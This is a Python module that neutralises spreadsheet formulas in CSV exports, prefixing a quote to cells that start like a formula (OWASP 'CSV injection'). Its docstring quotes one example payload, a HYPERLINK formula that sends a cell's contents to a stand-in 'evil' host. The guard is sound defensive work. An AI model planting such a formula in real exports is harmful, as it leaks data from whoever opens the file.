"""One guard for every CSV rasd writes: a cell that a spreadsheet would run as a formula is made plain text.

Outlets, titles, actor names and notes come from articles, that is from anyone who can publish a page. A cell
starting with = + - @ (or a tab or carriage return, which some spreadsheets skip before reading a formula) such as
`=HYPERLINK("http://evil/?"&A1, "click")` would run when an analyst opens the export: it is prefixed with a single
quote, which spreadsheets show as text (OWASP "CSV injection"). Numbers are never text from an article and stay as
they are (a longitude of -3.2 is not a formula). Lists are guarded after joining, so a list whose first item is a
formula is caught too. The dashboard's JavaScript export (rasd/api/web/export.js) applies the same rule.
"""

from __future__ import annotations

import json
from typing import Any

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: How list values are joined into one cell.
LIST_SEPARATOR = "; "


def safe_csv_cell(value: Any) -> str:
    """The text of one CSV cell: None is empty, booleans are true/false, lists are joined with '; ', dicts are
    JSON; text that starts like a formula gets a leading single quote."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (int, float)):
        return str(value)
    if isinstance(value, (list, tuple)):
        text = LIST_SEPARATOR.join(str(v) for v in value)
    elif isinstance(value, dict):
        text = json.dumps(value, ensure_ascii=False)
    else:
        text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def safe_csv_row(row: dict[str, Any]) -> dict[str, Any]:
    """A row for csv.DictWriter with its text cells guarded (other values are left for the writer to format)."""
    return {key: safe_csv_cell(value) if isinstance(value, (str, list, tuple)) else value for key, value in row.items()}
